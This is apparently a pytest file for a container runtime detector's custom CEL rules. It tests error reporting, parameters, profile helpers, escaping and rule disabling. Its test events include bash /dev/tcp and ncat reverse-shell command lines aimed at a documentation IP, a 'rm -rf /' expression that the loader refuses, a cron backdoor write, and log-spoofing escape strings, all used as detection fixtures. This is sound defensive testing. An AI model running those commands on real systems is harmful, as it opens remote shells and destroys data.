"""`RuntimeRule`s: CEL rules loaded from resources, compiled once, evaluated like built-ins.

Covers the contract users rely on: located compile errors (file:line, field, line/column in
the expression) that leave the other rules working; typed parameters overridable per binding;
the helpers under gadgetwatch's and Kubescape's names; the profile gate and the clean-event
memo applied to CEL rules (including fields the built-in memo key leaves out); hostile
expressions and hostile event strings; evaluation errors counted per rule and a rule disabled
with one system alert after the limit, detection going on.
"""

from __future__ import annotations

import dataclasses
import json
import textwrap
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from kubernetes import client

from detector import bindings, cel_env, custom_rules
from detector.alerts import Alert
from detector.config import DetectorSettings
from detector.evaluating import Detector
from detector.k8s_source import RULES
from detector.rules import default_catalogue
from detector.ruleset import load_files, load_text
from detector.stats import DetectorStats
from gadgetclient.events import Event, ExecEvent, Process
from profiler.readmodel import ProfileStatus
from tests.detector.builders import (
    SEC,
    WEB_KEY,
    PodMeta,
    dns_ev,
    exec_ev,
    open_ev,
    proc,
    tcp_ev,
)
from tests.detector.profiles import MemoryProfile, MemoryProfiles
from tests.standins.fixtures import KubeApi

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples" / "rules"
SCHEMA = json.loads((REPO / "docs" / "alert.schema.json").read_text())


def rule_yaml(
    rule_id: str = "C0100",
    *,
    match: dict[str, str],
    message: str = '"found " + text.safe(event.kind)',
    key: str = "[]",
    dependency: str = "none",
    extra: str = "",
    name: str | None = None,
) -> str:
    lines = [
        f"apiVersion: {custom_rules.API_VERSION}",
        "kind: RuntimeRule",
        f"metadata: {{name: {rule_id.lower()}}}",
        "spec:",
        f"  id: {rule_id}",
        f"  name: {name or 'Custom ' + rule_id}",
        "  severity: high",
        f"  profileDependency: {dependency}",
        "  match:",
    ]
    lines += [f"    {kind}: {_quote(expr)}" for kind, expr in match.items()]
    lines += [f"  message: {_quote(message)}", f"  key: {_quote(key)}"]
    return "\n".join(lines) + ("\n" + textwrap.indent(extra, "  ") if extra else "") + "\n"


def _quote(expr: str) -> str:
    return "'" + expr.replace("'", "''") + "'"


def binding(*refs: str, params: str = "") -> str:
    entries = "\n".join(f"  - ruleID: {r}" + (f"\n    parameters: {params}" if params else "")
                        for r in refs)  # fmt: skip
    return (
        f"apiVersion: {bindings.API_VERSION}\nkind: RuntimeRuleAlertBinding\n"
        "metadata: {name: custom}\n"
        f"spec:\n  rules:\n{entries}\n"
    )


def detector(
    text: str, *, profiles: MemoryProfiles | None = None, pod_meta: PodMeta | None = None,
    **settings: Any,
) -> Detector:  # fmt: skip
    catalogue = default_catalogue()
    return Detector(
        settings=DetectorSettings(**settings),
        profiles=profiles or MemoryProfiles(),
        pod_metadata=pod_meta or PodMeta(),
        stats=DetectorStats(),
        rules=load_text(text, source="rules.yaml", catalogue=catalogue),
        catalogue=catalogue,
    )


def ids(alerts: list[Alert]) -> list[str]:
    """The ids of the alerts of rules other than the built-in R-rules (which the built-in
    default binding adds when a test binds nothing)."""
    return [str(a.rule.id) for a in alerts if not a.rule.id.startswith("R")]


# -- compiling and locating problems ---------------------------------------------------------


def test_a_syntax_error_names_rule_file_line_and_position_and_other_rules_load() -> None:
    bad = rule_yaml("C0101", match={"exec": 'event.exec_path.startsWith("/tmp") &&'})
    good = rule_yaml("C0102", match={"exec": 'event.exec_path.startsWith("/tmp")'})
    loaded = load_text(
        bad + "---\n" + good + "---\n" + binding("C0102"),
        source="my-rules.yaml",
        catalogue=default_catalogue(),
    )
    assert [r.id for r in loaded.rules] == ["C0102"]
    (problem,) = loaded.errors
    text = str(problem)
    assert text.startswith("my-rules.yaml:10: RuntimeRule c0101: spec.match.exec: error:")
    assert "rule C0101" in text
    assert "expression line 1, column" in text
    d = detector(good + "---\n" + binding("C0102"))
    assert ids(d.evaluate([exec_ev("/tmp/x")])) == ["C0102"]


@pytest.mark.parametrize(
    ("expr", "wanted"),
    [
        ("event.no_such_field == 1", "exec events have no field 'no_such_field'"),
        ('event.process.nope == ""', "event.process has no field 'nope'"),
        ("params.missing", "unknown parameter 'missing'"),
        ('system("rm -rf /")', "unknown function(s) system"),
        ("event.exec_path.readFile()", "unknown function(s) readFile"),
        ("somevar == 1", "unknown variable(s) somevar"),
        ("(" * 40 + "true" + ")" * 40, "brackets nested deeper than 32"),
        ("true || " * 700 + "true", "more than 4096"),
        (
            " && ".join(f'event.args.exists(a{i}, a{i} == "x")' for i in range(5)),
            "more than 4 comprehensions",
        ),
        ("", "must be a non-empty CEL expression"),
    ],
)
def test_bad_expressions_are_refused_with_a_reason(expr: str, wanted: str) -> None:
    loaded = load_text(
        rule_yaml(match={"exec": expr}), source="r.yaml", catalogue=default_catalogue()
    )
    assert not loaded.rules
    assert any(wanted in p.message for p in loaded.errors), loaded.errors


def test_field_errors_carry_the_position_inside_a_multi_line_expression() -> None:
    text = rule_yaml(match={"open": 'event.open_path != ""\n&& event.bogus'})
    text = text.replace("open: '", "open: |\n      ").replace("event.bogus'", "event.bogus")
    text = text.replace("\n&& event.bogus", "\n      && event.bogus")
    loaded = load_text(text, source="r.yaml", catalogue=default_catalogue())
    assert any("expression line 2, column 10" in p.message for p in loaded.errors), loaded.errors


@pytest.mark.parametrize(
    ("rule_id", "name", "wanted"),
    [
        ("R0001", None, "collides with rule R0001"),
        ("C0200", "Unexpected process launched", "collides with rule R0001"),
        ("GW0009", None, "reserved for system alerts"),
        ("C0400", '"Fake\\nGW0001 alert"', "control or bidi"),
        ("lower", None, "upper-case"),
        ("R3000", None, "collides with rule R3000"),
        ("R1007", None, "collides with rule R1007"),
    ],
)
def test_ids_and_names_must_not_collide(rule_id: str, name: str | None, wanted: str) -> None:
    loaded = load_text(
        rule_yaml(rule_id, match={"exec": "true"}, name=name),
        source="r.yaml",
        catalogue=default_catalogue(),
    )
    assert not loaded.rules
    assert any(wanted in p.message for p in loaded.errors), loaded.errors


@pytest.mark.parametrize(
    ("extra", "wanted"),
    [
        ("mitreTactic: execution", "spec.mitreTactic"),
        ("mitreTechnique: T1059.4", "spec.mitreTechnique"),
        ("severity: urgent", "spec.severity"),
        ("profileDependency: sometimes", "spec.profileDependency"),
        ("parameters: [{name: x, type: float}]", "spec.parameters[0].type"),
        ("parameters: [{name: x, type: paths, default: [relative]}]", "spec.parameters[0].default"),
        ('fix: "line\\x1b[31m red"', "spec.fix"),
        ('description: "\\u202eevil"', "spec.description"),
        ('tags: ["ok", "bad\\nline"]', "spec.tags"),
        ("description: " + "x" * 5000, "spec.description"),
    ],
)
def test_bad_metadata_is_refused_at_its_field(extra: str, wanted: str) -> None:
    text = rule_yaml(match={"exec": "true"}, extra=extra)
    text = text.replace("  severity: high\n", "") if "severity" in extra else text
    text = text.replace("  profileDependency: none\n", "") if "profileDep" in extra else text
    loaded = load_text(text, source="r.yaml", catalogue=default_catalogue())
    assert not loaded.rules
    assert [p.field for p in loaded.errors] == [wanted]


def test_two_rules_with_one_id_keep_the_first() -> None:
    text = rule_yaml(match={"exec": "true"}) + "---\n" + rule_yaml(match={"open": "true"})
    loaded = load_text(text, source="r.yaml", catalogue=default_catalogue())
    assert [r.kinds for r in loaded.rules] == [frozenset({"exec"})]
    assert len(loaded.errors) == 1


def test_per_kind_messages_must_cover_every_kind() -> None:
    text = rule_yaml(match={"exec": "true", "dns": "true"}).replace(
        "  message: '\"found \" + text.safe(event.kind)'",
        "  message:\n    exec: '\"x\"'",
    )
    loaded = load_text(text, source="r.yaml", catalogue=default_catalogue())
    assert any("no expression for event kind 'dns'" in p.message for p in loaded.errors)


# -- evaluation --------------------------------------------------------------------------------


def test_parameters_are_typed_and_overridden_per_binding() -> None:
    rule = rule_yaml(
        match={"exec": "path.basename(event.exec_path) in params.names"},
        extra="parameters:\n- {name: names, type: strings, default: [nc], description: tools}\n",
    )
    d = detector(rule + "---\n" + binding("C0100"))
    assert ids(d.evaluate([exec_ev("/bin/nc"), exec_ev("/bin/socat")])) == ["C0100"]
    d = detector(rule + "---\n" + binding("C0100", params="{names: [socat]}"))
    assert ids(d.evaluate([exec_ev("/bin/nc"), exec_ev("/bin/socat")])) == ["C0100"]
    bad = load_text(
        rule + "---\n" + binding("C0100", params="{names: 5}"),
        source="b.yaml",
        catalogue=default_catalogue(),
    )
    assert any("must be a list" in p.message for p in bad.errors)


def test_the_default_binding_includes_runtime_rules() -> None:
    d = detector(rule_yaml(match={"dns": 'event.name.endsWith(".evil")'}))
    assert ids(d.evaluate([dns_ev("c2.evil")])) == ["C0100"]


def test_kubescape_helper_names_and_gadgetwatch_names_agree() -> None:
    profile = MemoryProfile(
        WEB_KEY,
        execs={"/usr/bin/curl": []},
        opens={"/etc/app/config.yaml": {"O_RDONLY"}},
        syscalls={"read"},
        capabilities={"CAP_NET_RAW"},
        domains={"api.example.com"},
        egress={("203.0.113.7", 443, "TCP")},
    )
    profiles = MemoryProfiles()
    profiles.add(profile)
    pairs = {
        "exec": [
            ('ap.was_executed(event.container.container_id, "/usr/bin/curl")',
             'profile.has_exec("/usr/bin/curl")'),
            ('ap.was_path_opened(event.container.container_id, "/etc/app/config.yaml")',
             'profile.has_path("/etc/app/config.yaml")'),
            ('ap.was_path_opened_with_suffix(event.container.container_id, "config.yaml")',
             'profile.has_path_suffix("config.yaml")'),
            ('ap.was_syscall_used(event.container.container_id, "read")',
             'profile.has_syscall("read")'),
            ('ap.was_capability_used(event.container.container_id, "CAP_NET_RAW")',
             'profile.has_capability("CAP_NET_RAW")'),
            ('nn.is_domain_in_egress(event.container.container_id, "api.example.com")',
             'profile.has_domain("api.example.com")'),
            ('nn.was_address_in_egress(event.container.container_id, "203.0.113.7")',
             'profile.has_address("203.0.113.7")'),
            ('k8s.is_api_server_address("10.96.0.1")', 'cluster.is_api_server("10.96.0.1")'),
            ('k8s.get_container_mount_paths("shop", "web-1", "app") == ["/data"]',
             'cluster.mounts() == ["/data"]'),
            ('net.is_private_ip("10.1.2.3") && !net.is_private_ip("8.8.8.8")',
             'net.is_private("10.1.2.3") && !net.is_private("8.8.8.8")'),
            ('parse.get_exec_path(["/bin/busybox", "sh"], "sh") == "/bin/busybox"',
             'proc.exec_path(["/bin/busybox", "sh"], "sh") == "/bin/busybox"'),
            ('parse.get_exec_path([], "sh") == "sh"', 'proc.exec_path([], "sh") == "sh"'),
        ]
    }  # fmt: skip
    docs = []
    for i, (kubescape, own) in enumerate(pairs["exec"]):
        docs.append(rule_yaml(f"K{i:03d}", match={"exec": kubescape}))
        docs.append(rule_yaml(f"G{i:03d}", match={"exec": own}))
    d = detector(
        "---\n".join(docs),
        profiles=profiles,
        pod_meta=PodMeta(mounts={"app": ["/data"]}),
        api_server_addresses=("10.96.0.1",),
    )
    alerts = d.evaluate([exec_ev("/bin/true")])
    fired = set(ids(alerts))
    assert d.stats.errors == {}
    assert fired == {f"K{i:03d}" for i in range(len(pairs["exec"]))} | {
        f"G{i:03d}" for i in range(len(pairs["exec"]))
    }
    # Without a profile every profile question is false (the built-in rules' reading).
    d = detector(rule_yaml(match={"exec": 'ap.was_executed("", "/usr/bin/curl")'}))
    assert d.evaluate([exec_ev("/bin/true")]) == []


def test_required_rules_wait_for_a_completed_profile() -> None:
    profiles = MemoryProfiles()
    profiles.add(MemoryProfile(WEB_KEY, status=ProfileStatus.LEARNING))
    d = detector(
        rule_yaml(match={"exec": "!profile.has_exec(event.exec_path)"}, dependency="required")
        + "---\n"
        + binding("C0100"),
        profiles=profiles,
    )
    assert d.evaluate([exec_ev("/bin/sh")]) == []
    assert d.stats.suppressed[("C0100", "profile_learning")] == 1
    profiles.add(MemoryProfile(WEB_KEY, execs={"/bin/ls": []}))
    assert ids(d.evaluate([exec_ev("/bin/sh", t=SEC), exec_ev("/bin/ls", t=SEC)])) == ["C0100"]


def test_the_memo_keys_on_fields_a_cel_rule_reads_beyond_the_built_in_key() -> None:
    """uid is not in the open memo key: an open found clean for uid 1000 must still alert
    for uid 0 (the plan extends its memo key by the fields its CEL rules read)."""
    profiles = MemoryProfiles()
    profiles.add(MemoryProfile(WEB_KEY))
    d = detector(
        rule_yaml(match={"open": "event.process.uid == 0"}, dependency="optional")
        + "---\n"
        + binding("C0100"),
        profiles=profiles,
    )
    plain = open_ev("/etc/hosts")
    first = replace(plain, process=proc("app", uid=1000))
    root = replace(plain, process=proc("app", uid=0), timestamp_ns=plain.timestamp_ns + SEC)
    assert d.evaluate([first, first]) == []
    assert d.stats.memo_hits["open"] == 1
    assert ids(d.evaluate([root])) == ["C0100"]


def test_hostile_event_strings_are_escaped_and_bounded_in_messages() -> None:
    d = detector(
        rule_yaml(
            match={"exec": "true"},
            message='"run " + event.exec_path + " " + text.safe(event.args[1])',
            key="[event.exec_path]",
        )
    )
    evil = '/tmp/x\n{"rule":"fake"}\x1b[31m\u202e' + "A" * 5000
    (alert,) = d.evaluate([exec_ev(evil, "\r\narg\x00")])
    assert "\n" not in alert.message
    assert "\x1b" not in alert.message
    assert "\u202e" not in alert.message
    assert "\x00" not in alert.message
    assert "\\x0a" in alert.message
    assert len(alert.message) < 2200
    assert "truncated" in alert.message


def test_evaluation_errors_are_counted_and_a_failing_rule_is_disabled_once() -> None:
    failing = rule_yaml("C0300", match={"exec": 'event.args[3] == "x"'})
    healthy = rule_yaml("C0301", match={"exec": 'event.exec_path == "/bin/nc"'})
    d = detector(failing + "---\n" + healthy, rule_error_limit=5)
    events: list[Event] = [exec_ev("/bin/nc", t=i * SEC, pid=i) for i in range(12)]
    alerts = d.evaluate(events)
    assert d.stats.errors["C0300"] == 5
    assert d.stats.rules_disabled["C0300"] == 1
    assert d.disabled_rules == ["C0300"]
    system = [a for a in alerts if a.rule.id == "GW0003"]
    assert len(system) == 1
    assert "C0300" in system[0].message
    assert "disabled after 5 evaluation errors" in system[0].message
    assert ids(alerts).count("C0301") == 1  # detection goes on (deduplicated after the first)
    for alert in alerts:  # the system alert and the custom rule's fit the published schema
        jsonschema.validate(alert.to_dict(), SCHEMA)
    assert d.stats.evaluations["C0301"] == 12
    # A changed resource (a new revision) runs again.
    fixed = rule_yaml("C0300", match={"exec": "size(event.args) > 3"})
    d.update_rules("initial", load_text(fixed + "---\n" + healthy, source="r.yaml",
                                        catalogue=default_catalogue()))  # fmt: skip
    assert d.disabled_rules == []
    assert ids(d.evaluate([exec_ev("/bin/nc", "a", "b", "c", t=20 * SEC)])) == ["C0300"]


def test_a_match_that_is_not_a_bool_is_an_evaluation_error() -> None:
    d = detector(rule_yaml(match={"exec": "event.exec_path"}))
    assert d.evaluate([exec_ev("/bin/sh")]) == []
    assert d.stats.errors["C0100"] == 1


def test_dedup_keys_come_from_the_key_expression() -> None:
    d = detector(rule_yaml(match={"tcp": "event.dst_port == 4444"}, key="[event.dst_addr]"))
    alerts = d.evaluate(
        [tcp_ev("198.51.100.1", 4444), tcp_ev("198.51.100.1", 4444, t=SEC),
         tcp_ev("198.51.100.2", 4444, t=2 * SEC)]
    )  # fmt: skip
    assert ids(alerts) == ["C0100", "C0100"]
    assert alerts[0].fingerprint != alerts[1].fingerprint


# -- the worked examples of docs/rules.md ---------------------------------------------------------


def examples_detector(profiles: MemoryProfiles | None = None) -> Detector:
    catalogue = default_catalogue()
    loaded = load_files([EXAMPLES], catalogue=catalogue)
    assert not loaded.problems, loaded.problems
    assert sorted(r.id for r in loaded.rules) == ["C0001", "C0002", "C0003"]
    return Detector(
        settings=DetectorSettings(),
        profiles=profiles or MemoryProfiles(),
        pod_metadata=PodMeta(),
        stats=DetectorStats(),
        rules=loaded,
        catalogue=catalogue,
    )


def test_example_reverse_shell() -> None:
    d = examples_detector()
    bash_tcp = exec_ev("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
    interactive = ExecEvent(
        timestamp_ns=bash_tcp.timestamp_ns + SEC, container=bash_tcp.container,
        process=Process(pid=7, comm="sh", pcomm="python3"), path="/bin/sh",
        args=("/bin/sh", "-i"), tty=False,
    )  # fmt: skip
    with_tty = replace(interactive, tty=True, timestamp_ns=interactive.timestamp_ns + SEC)
    ncat = exec_ev("/usr/bin/ncat", "203.0.113.9", "4444", "-e", "/bin/sh", t=3 * SEC)
    benign = exec_ev("/bin/bash", "-c", "echo hi", t=4 * SEC)
    alerts = [a for a in d.evaluate([bash_tcp, interactive, with_tty, ncat, benign])
              if a.rule.id == "C0001"]  # fmt: skip
    assert [a.message.split(" (parent")[0] for a in alerts] == [
        "Reverse shell: /bin/bash /bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "Reverse shell: /bin/sh /bin/sh -i",
        "Reverse shell: /usr/bin/ncat /usr/bin/ncat 203.0.113.9 4444 -e /bin/sh",
    ]


def test_example_write_under_etc() -> None:
    profiles = MemoryProfiles()
    profiles.add(MemoryProfile(WEB_KEY, opens={"/etc/nginx/conf.d/default.conf": {"O_WRONLY"}}))
    d = examples_detector(profiles)
    events = [
        open_ev("/etc/cron.d/backdoor", "O_WRONLY", "O_CREAT", comm="sh"),
        open_ev("/etc/passwd", "O_RDONLY", comm="sh"),
        open_ev("/etc/apt/sources.list", "O_WRONLY", comm="apt-get"),
        open_ev("/etc/nginx/conf.d/default.conf", "O_WRONLY", comm="envsubst"),
    ]
    alerts = [a for a in d.evaluate(events) if a.rule.id == "C0002"]
    assert [a.message for a in alerts] == ["Write under /etc: /etc/cron.d/backdoor by sh (pid 100)"]


def test_example_unexpected_outbound_port() -> None:
    profiles = MemoryProfiles()
    profiles.add(MemoryProfile(WEB_KEY, egress={("10.0.0.9", 5432, "TCP")}))
    d = examples_detector(profiles)
    events = [
        tcp_ev("203.0.113.9", 4444, comm="python3"),
        tcp_ev("203.0.113.9", 443, comm="python3"),
        tcp_ev("10.0.0.9", 5432, comm="app"),
        tcp_ev("127.0.0.1", 9000, comm="app"),
    ]
    alerts = [a for a in d.evaluate(events) if a.rule.id == "C0003"]
    assert [a.message for a in alerts] == [
        "Unexpected outbound port: 203.0.113.9:4444 by python3 (pid 100)"
    ]


def test_shipped_rules_are_accepted_by_the_api_server(kube_api: KubeApi) -> None:
    """deploy/rules and examples/rules pass the CRD's schema with strict field validation."""
    api: Any = client.CustomObjectsApi(kube_api.api_client())
    files = sorted((REPO / "deploy" / "rules").glob("*.yaml")) + sorted(EXAMPLES.glob("*.yaml"))
    assert len(files) == 27
    for path in files:
        doc = yaml.safe_load(path.read_text())
        stored = api.create_cluster_custom_object(
            RULES.group, RULES.version, RULES.plural, doc, field_validation="Strict"
        )
        assert stored["spec"] == doc["spec"], path.name


def test_the_api_server_rejects_an_id_the_agent_rejects(kube_api: KubeApi) -> None:
    doc = yaml.safe_load(rule_yaml("lower-case", match={"exec": "true"}))
    assert load_text(yaml.safe_dump(doc), source="r", catalogue=default_catalogue()).rules == ()
    api: Any = client.CustomObjectsApi(kube_api.api_client())
    with pytest.raises(client.ApiException) as err:
        api.create_cluster_custom_object(
            RULES.group, RULES.version, RULES.plural, doc, field_validation="Strict"
        )
    assert err.value.status == 422


def test_docs_tables_are_generated_from_the_event_model_and_list_every_helper() -> None:
    docs = (REPO / "docs" / "rules.md").read_text()
    start = docs.index(cel_env.BEGIN) + len(cel_env.BEGIN)
    committed = docs[start : docs.index(cel_env.END)]
    assert committed == "\n" + cel_env.generated_docs(), (
        "run: .venv/bin/python -m detector.cel_env docs/rules.md"
    )
    documented = {call.split("(")[0] for call, _, _ in cel_env.HELPER_DOCS}
    documented |= {alias.split("(")[0] for _, _, alias in cel_env.HELPER_DOCS if alias}
    assert documented == cel_env.helper_names()
    # Every field of every event class is in the tables (nested ones as event.x.y).
    for kind, cls in cel_env.EVENT_CLASSES.items():
        for f in dataclasses.fields(cls):
            assert f"`event.{f.name}" in docs, (kind, f.name)


def test_a_rule_defined_by_two_sources_keeps_the_first_and_is_counted_once() -> None:
    rule = rule_yaml(match={"exec": 'event.exec_path == "/bin/nc"'})
    d = detector(rule)
    other = load_text(
        rule_yaml(match={"exec": "true"}), source="cluster", catalogue=default_catalogue()
    )
    d.update_rules("cluster", other)
    d.update_rules("cluster", other)
    assert d.stats.load_errors["cluster"] == 1
    assert ids(d.evaluate([exec_ev("/bin/ls"), exec_ev("/bin/nc")])) == ["C0100"]
